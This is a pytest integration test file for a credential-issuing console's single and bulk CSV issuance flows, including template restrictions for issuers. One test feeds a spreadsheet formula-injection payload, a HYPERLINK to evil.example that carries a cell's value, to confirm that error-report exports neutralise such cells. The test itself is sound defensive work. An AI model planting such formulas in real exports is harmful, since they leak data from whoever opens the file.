"""Issuing from the issuer console: the single form (recipient, dates, evidence, claim
mail or not); the bulk flow (the CSV template, the upload checked and listed before
anything is issued, one confirmation that queues once, the progress the worker moves
to 100 %, the error report as a spreadsheet-safe CSV); and an issuer restricted to
some templates, refused any other in both, with nothing written."""

from __future__ import annotations

import csv
import io
import json
import re

import boto3
import pytest

from chalicelib.services import bulk
from tests.conftest import list_bucket, scan_table, sent_mail
from tests.console_helpers import console_csrf, member, new_organization, sign_in
from tests.helpers import active_template
from tests.integration.test_bulk import QUEUE, drain
from tests.integration.test_console_templates import upload


def credentials_stored(tenant_id: str | None = None) -> list[dict]:
    return [i for i in scan_table() if i["sk"] == "C" and (tenant_id is None or i["tenant_id"] == tenant_id)]


def queued_messages() -> int:
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    attributes = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=["ApproximateNumberOfMessages",
                                                                        "ApproximateNumberOfMessagesNotVisible"])
    return sum(int(v) for v in attributes["Attributes"].values())


def jobs_stored(tenant_id: str) -> list[dict]:
    return [i for i in scan_table() if i["pk"] == f"T#{tenant_id}" and i["sk"].startswith("JOB#")]


@pytest.fixture()
def org(client):
    """An organization with two active templates and its admin signed in."""
    tenant_id, key = new_organization()
    first = active_template(client, key, name="Data Steward")
    second = active_template(client, key, name="Cloud Architect")
    return tenant_id, key, sign_in(client, "ada@acme.example"), first, second


# ------------------------------------------------------------------ one credential


def test_the_single_form_issues_with_dates_and_evidence_and_can_keep_the_claim_mail_back(client, org):
    tenant_id, _, admin, template_id, _ = org
    page = admin.text(admin.get(f"/console/issue?template_id={template_id}"))
    assert f'<option value="{template_id}" selected>Data Steward</option>' in page
    res = admin.post("/console/issue", {
        "csrf": console_csrf(admin, "/console/issue"), "template_id": template_id, "email": "Grace@Example.com",
        "first_name": "Grace", "last_name": "Hopper", "issued_at": "2026-01-15", "expires_at": "2027-01-15",
        "evidence_url": "https://lms.example/grace/final", "evidence_narrative": "Built a compiler.",
        "evidence_name": "Final project", "suppress_email": "yes"})
    assert res.status_code == 303, admin.text(res)[:2000]
    [item] = credentials_stored(tenant_id)
    assert res.headers["Location"] == f"/console/issue?issued={item['credential_id']}&mail=not_sent"
    assert item["email"] == "grace@example.com" and item["template_id"] == template_id
    assert item["issued_at"].startswith("2026-01-15") and item["expires_at"].startswith("2027-01-15")
    assert json.loads(item["evidence"]) == [{"url": "https://lms.example/grace/final",
                                             "narrative": "Built a compiler.", "name": "Final project"}]
    assert sent_mail() == [m for m in sent_mail() if "/console/signin" in m["body"]]  # no claim mail
    page = admin.text(admin.get(res.headers["Location"]))
    assert "no claim mail was sent" in page and f'href="/console/credentials/{item["credential_id"]}"' in page
    [entry] = [i for i in scan_table() if i["pk"].startswith(f"T#{tenant_id}#AUDIT") and i["actor_type"] == "member"]
    assert entry["route"] == "/console/issue" and entry["actor_type"] == "member"

    # the same person again: refused by the duplicate policy, as the API refuses it
    res = admin.post("/console/issue", {"csrf": console_csrf(admin, "/console/issue"), "template_id": template_id,
                                        "email": "grace@example.com", "first_name": "Grace", "last_name": "Hopper"})
    assert res.status_code == 409 and "already holds this credential" in admin.text(res)
    # a second one with "never expires" and the claim mail
    res = admin.post("/console/issue", {"csrf": console_csrf(admin, "/console/issue"), "template_id": template_id,
                                        "email": "ada@example.com", "first_name": "Ada", "last_name": "Lovelace",
                                        "never_expires": "yes"})
    assert res.status_code == 303 and res.headers["Location"].endswith("&mail=sent")
    ada = [i for i in credentials_stored(tenant_id) if i["email"] == "ada@example.com"][0]
    assert ada.get("expires_at") is None
    assert [m["to"] for m in sent_mail() if "/claim/" in m["body"]] == [["ada@example.com"]]


def test_a_form_with_problems_comes_back_with_them_and_writes_nothing(client, org):
    tenant_id, _, admin, template_id, _ = org
    before = scan_table()
    res = admin.post("/console/issue", {"csrf": console_csrf(admin, "/console/issue"), "template_id": template_id,
                                        "email": "not an address", "first_name": "", "last_name": "Hopper",
                                        "issued_at": "31/01/2026", "evidence_name": "Only a title"})
    page = admin.text(res)
    assert res.status_code == 422
    for field in ("email", "first_name", "issued_at", "evidence_url"):
        assert f'href="#f-{field}"' in page and f'aria-describedby="e-{field}"' in page, field
    assert 'value="not an address"' in page and 'value="Hopper"' in page  # what was typed stays
    assert scan_table() == before and sent_mail() == [m for m in sent_mail() if "/console/signin" in m["body"]]


# ------------------------------------------------------------------ an issuer restricted to some templates


def test_an_issuer_restricted_to_templates_is_offered_only_those_and_refused_the_others(client, org):
    tenant_id, key, admin, allowed, other = org
    ian = member(client, tenant_id, "ian@acme.example", "issuer", admin, templates=allowed)
    form = ian.text(ian.get("/console/issue"))
    assert f'value="{allowed}"' in form and f'value="{other}"' not in form
    bulk_page = ian.text(ian.get("/console/bulk"))
    assert allowed in bulk_page and other not in bulk_page

    before, mails = scan_table(), len(sent_mail())
    res = ian.post("/console/issue", {"csrf": console_csrf(ian, "/console/issue"), "template_id": other,
                                      "email": "grace@example.com", "first_name": "Grace", "last_name": "Hopper"})
    assert res.status_code == 403 and "you may not issue from this template" in ian.text(res)
    assert scan_table() == before and len(sent_mail()) == mails

    # a file with one row of another template: the whole file is refused, naming the row; nothing kept
    data = (f"email,first_name,last_name,template_id\na@example.com,A,One,{allowed}\n"
            f"b@example.com,B,Two,{other}\n").encode()
    bucket = list_bucket()
    res = upload(ian, "/console/bulk", {"csrf": console_csrf(ian, "/console/bulk")},
                 {"file": ("people.csv", data, "text/csv")})
    assert res.status_code == 403 and "row 2" in ian.text(res)
    assert scan_table() == before and list_bucket() == bucket and queued_messages() == 0

    # the same issuer's own rows go through
    res = ian.post("/console/issue", {"csrf": console_csrf(ian, "/console/issue"), "template_id": allowed,
                                      "email": "grace@example.com", "first_name": "Grace", "last_name": "Hopper",
                                      "suppress_email": "yes"})
    assert res.status_code == 303 and len(credentials_stored(tenant_id)) == 1


def test_the_confirmation_checks_the_members_templates_again(client, org):
    from chalicelib.domain import ids
    from chalicelib.store import members as member_store

    tenant_id, _, admin, allowed, other = org
    ian = member(client, tenant_id, "ian@acme.example", "issuer", admin)  # every template, for now
    data = f"email,first_name,last_name,template_id\nb@example.com,B,Two,{other}\n".encode()
    res = upload(ian, "/console/bulk", {"csrf": console_csrf(ian, "/console/bulk")},
                 {"file": ("people.csv", data, "text/csv")})
    assert res.status_code == 303
    job_url = res.headers["Location"]
    ian_id = member_store.member_by_email(tenant_id, ids.email_hash("ian@acme.example")).member_id
    res = admin.post(f"/console/members/{ian_id}", {"csrf": console_csrf(admin, "/console/members"),
                                                    "role": "issuer", "templates": allowed})
    assert res.status_code == 303
    ian = sign_in(client, "ian@acme.example")  # the change ended the old session
    res = ian.post(f"{job_url}/confirm", {"csrf": console_csrf(ian, job_url)})
    assert res.status_code == 403
    assert queued_messages() == 0 and [j["state"] for j in jobs_stored(tenant_id)] == ["previewed"]


# ------------------------------------------------------------------ many, from a file


def test_the_csv_template_is_the_header_row_in_the_documented_order(client, org):
    _, _, admin, _, _ = org
    res = admin.get("/console/bulk/template.csv")
    assert res.status_code == 200
    assert res.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert res.headers["Content-Disposition"] == 'attachment; filename="laurel-bulk-template.csv"'
    text = res.body.decode() if isinstance(res.body, bytes) else res.body
    assert text == "\ufeffemail,first_name,last_name,template_id,issued_at,expires_at,evidence_url," \
                   "evidence_narrative,evidence_name,earner_id,locale\r\n"
    assert bulk.parse(text.encode() + b"a@example.com,A,B,0123456789abcdef,,,,,,\n", "text/csv") == [
        {"email": "a@example.com", "first_name": "A", "last_name": "B", "template_id": "0123456789abcdef"}]


def _upload(admin, data: bytes, **fields):
    res = upload(admin, "/console/bulk", {"csrf": console_csrf(admin, "/console/bulk"), **fields},
                 {"file": ("people.csv", data, "application/vnd.ms-excel")})
    assert res.status_code == 303, admin.text(res)[:2000]
    return re.fullmatch(r"/console/bulk/([0-9a-f]{32})", res.headers["Location"]).group(1)


def test_the_preview_lists_row_errors_before_anything_is_issued_and_one_confirm_queues_once(client, org):
    tenant_id, _, admin, template_id, _ = org
    data = (f"email,first_name,last_name,template_id\n"
            f"a@example.com,Ann,One,{template_id}\n"
            f"not-an-address,Bob,Two,{template_id}\n"
            f"c@example.com,Cy,Three,{template_id}\n"
            f"d@example.com,Di,Four,fedcba9876543210\n").encode()
    job_id = _upload(admin, data, suppress_email="yes")

    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    assert "Check before issuing" in page and "Nothing has been issued yet." in page
    assert "<dt>Ready to issue</dt><dd>2</dd>" in page and "<dt>With errors</dt><dd>2 (not issued)</dd>" in page
    rows = re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td></tr>", page)
    assert [r[0] for r in rows] == ["2", "4"]
    assert rows[0][1].startswith("email: ") and rows[1][1] == "template_id: template not found"
    assert 'action="/console/bulk/' + job_id + '/confirm"' in page and "Issue 2 credentials" in page
    # nothing issued, nothing queued: the job waits, its file kept privately (not under assets/)
    assert credentials_stored(tenant_id) == [] and queued_messages() == 0
    assert [j["state"] for j in jobs_stored(tenant_id)] == ["previewed"]
    assert f"uploads/{tenant_id}/{job_id}/preview.json" in list_bucket()

    csrf = console_csrf(admin, f"/console/bulk/{job_id}")
    first = admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": csrf})
    second = admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": csrf})  # a double click
    assert first.status_code == second.status_code == 303
    assert queued_messages() == 1 and [j["state"] for j in jobs_stored(tenant_id)] == ["queued"]
    assert drain(client) == 1
    issued = credentials_stored(tenant_id)
    assert sorted(i["email"] for i in issued) == ["a@example.com", "c@example.com"]
    assert [m for m in sent_mail() if "/claim/" in m["body"]] == []  # suppressed for the whole file
    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    assert '<progress id="job-progress" max="100" value="100.0">100.0 %</progress>' in page
    assert "2 issued" in page and f'href="/console/bulk/{job_id}/errors.csv"' in page
    assert "hx-get" not in page and 'http-equiv="refresh"' not in page  # done: nothing polls


def test_the_progress_bar_advances_as_the_worker_issues_chunks(client, org, monkeypatch):
    tenant_id, _, admin, template_id, _ = org
    monkeypatch.setattr(bulk, "CHUNK_ROWS", 4)
    data = ("email,first_name,last_name,template_id\n" + "".join(
        f"p{n}@example.com,P{n},Person,{template_id}\n" for n in range(8))).encode()
    job_id = _upload(admin, data, suppress_email="yes")
    admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": console_csrf(admin, f"/console/bulk/{job_id}")})

    def fragment() -> str:
        res = admin.get(f"/console/bulk/{job_id}?fragment=progress")
        assert res.status_code == 200
        return admin.text(res)

    shown = fragment()
    assert shown.startswith('<div id="bulk-progress"') and "<html" not in shown
    assert f'hx-get="/console/bulk/{job_id}?fragment=progress" hx-trigger="every 2s" hx-swap="outerHTML"' in shown
    assert '<label for="job-progress">Rows handled</label>' in shown
    assert '<progress id="job-progress" max="100" value="0.0">0.0 %</progress>' in shown
    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    assert '<noscript><meta http-equiv="refresh" content="3"></noscript>' in page  # without JavaScript

    # one chunk of two delivered: half way
    sqs = boto3.client("sqs", region_name="us-east-1")
    url = sqs.get_queue_url(QueueName=QUEUE)["QueueUrl"]
    [message] = sqs.receive_message(QueueUrl=url, MaxNumberOfMessages=1)["Messages"]
    event = client.events.generate_sqs_event(message_bodies=[message["Body"]], queue_name=QUEUE)
    assert client.lambda_.invoke("bulk_worker", event).payload == {"batchItemFailures": []}
    sqs.delete_message(QueueUrl=url, ReceiptHandle=message["ReceiptHandle"])
    shown = fragment()
    assert '<progress id="job-progress" max="100" value="50.0">50.0 %</progress>' in shown and "hx-get" in shown
    assert "4 issued" in shown

    drain(client)
    shown = fragment()
    assert '<progress id="job-progress" max="100" value="100.0">100.0 %</progress>' in shown
    assert "hx-get" not in shown and "Done." in shown and "8 issued" in shown
    assert len(credentials_stored(tenant_id)) == 8


def test_the_error_report_is_a_csv_whose_cells_are_never_formulas(client, org):
    tenant_id, key, admin, template_id, other = org
    data = (f"email,first_name,last_name,template_id,evidence_url\n"
            f'bad-address,"=HYPERLINK(""https://evil.example/?""&A1,""x"")",@SUM(A1),{template_id},\n'
            f"ok@example.com,Ann,One,{template_id},\n"
            f"late@example.com,-Late,+Row,{other},\n").encode()
    job_id = _upload(admin, data, suppress_email="yes")

    def report() -> list[list[str]]:
        res = admin.get(f"/console/bulk/{job_id}/errors.csv")
        assert res.status_code == 200 and res.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert res.headers["Content-Disposition"] == f'attachment; filename="laurel-bulk-{job_id}-errors.csv"'
        text = res.body.decode() if isinstance(res.body, bytes) else res.body
        return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))

    header, *rows = report()
    assert header == ["row", "errors", *bulk.CSV_COLUMNS]
    assert len(rows) == 1 and rows[0][0] == "1" and rows[0][1].startswith("email: ")
    cells = dict(zip(header, rows[0]))
    assert cells["first_name"] == '\'=HYPERLINK("https://evil.example/?"&A1,"x")'
    assert cells["last_name"] == "'@SUM(A1)" and cells["email"] == "bad-address"

    # a row that fails in the worker (its template archived after the check) joins the report
    admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": console_csrf(admin, f"/console/bulk/{job_id}")})
    from tests.helpers import post

    assert post(client, f"/templates/{other}/archive", key, b"").status_code == 200
    drain(client)
    header, *rows = report()
    assert [r[0] for r in rows] == ["1", "3"]
    late = dict(zip(header, rows[1]))
    assert "archived" in late["errors"] and late["first_name"] == "'-Late" and late["last_name"] == "'+Row"
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)


def test_a_file_with_no_valid_row_offers_nothing_to_confirm_and_bad_files_are_refused_clearly(client, org):
    tenant_id, _, admin, template_id, _ = org
    job_id = _upload(admin, b"email,first_name,last_name,template_id\nnope,A,B,0123456789abcdef\n")
    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    assert "No row of this file can be issued" in page and "/confirm" not in page
    res = admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": console_csrf(admin, f"/console/bulk/{job_id}")})
    assert res.status_code == 409 and queued_messages() == 0

    before = scan_table()
    for data, status, message in ((b"name,surname\nA,B\n", 400, "the header row must name the columns"),
                                  (b"email,first_name,last_name,template_id\n", 400, "the file has no rows"),
                                  ("email,first_name\n\u00e9".encode("latin-1"), 400, "must be UTF-8")):
        res = upload(admin, "/console/bulk", {"csrf": console_csrf(admin, "/console/bulk")},
                     {"file": ("people.csv", data, "text/csv")})
        assert res.status_code == status and message in admin.text(res), message
    res = upload(admin, "/console/bulk", {"csrf": console_csrf(admin, "/console/bulk")},
                 {"file": ("", b"", "application/octet-stream")})
    assert res.status_code == 400 and "choose the CSV file to upload" in admin.text(res)
    assert scan_table() == before


def test_a_file_larger_than_other_forms_passes_the_csrf_check(client, org):
    """A console upload may be far larger than an ordinary form (1 MiB): the guard reads
    the token of any upload up to API Gateway's 10 MiB."""
    tenant_id, _, admin, template_id, _ = org
    row = f"someone@example.com,Someone,Person,{template_id},{'x' * 150}\n"
    data = ("email,first_name,last_name,template_id,evidence_narrative\n" + row * 8000).encode()
    assert len(data) > 1024 * 1024
    job_id = _upload(admin, data, suppress_email="yes")
    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    # the figures through | number (issue 19): 8,000 in English
    assert "<dt>Rows in the file</dt><dd>8,000</dd>" in page and "<dt>Ready to issue</dt><dd>1</dd>" in page


def test_a_file_that_cannot_be_kept_is_refused_and_no_job_is_left_behind(client, org, monkeypatch):
    from botocore.exceptions import ClientError

    tenant_id, _, admin, template_id, _ = org

    def refuse(*args, **kwargs):
        raise ClientError({"Error": {"Code": "SlowDown", "Message": "slow down"}}, "PutObject")

    monkeypatch.setattr(bulk.objects, "put", refuse)
    before = scan_table()
    res = upload(admin, "/console/bulk", {"csrf": console_csrf(admin, "/console/bulk")},
                 {"file": ("people.csv", f"email,first_name,last_name,template_id\na@example.com,A,B,{template_id}\n"
                           .encode(), "text/csv")})
    assert res.status_code == 503 and "nothing was issued, try again" in admin.text(res)
    assert scan_table() == before and jobs_stored(tenant_id) == []


def test_a_confirmation_that_cannot_queue_leaves_the_job_failed_and_says_so(client, org, monkeypatch):
    tenant_id, _, admin, template_id, _ = org
    job_id = _upload(admin, f"email,first_name,last_name,template_id\na@example.com,A,B,{template_id}\n".encode())

    def refuse(*args, **kwargs):
        raise RuntimeError("SQS is down")

    monkeypatch.setattr(bulk.queue, "send_batch", refuse)
    csrf = console_csrf(admin, f"/console/bulk/{job_id}")
    res = admin.post(f"/console/bulk/{job_id}/confirm", {"csrf": csrf})
    assert res.status_code == 503 and "could not be queued" in admin.text(res)
    assert [j["state"] for j in jobs_stored(tenant_id)] == ["failed"]  # never left 'queued' with nothing queued
    page = admin.text(admin.get(f"/console/bulk/{job_id}"))
    assert "The job stopped." in page and "the job could not be queued: RuntimeError" in page
    assert "hx-get" not in page and credentials_stored(tenant_id) == []
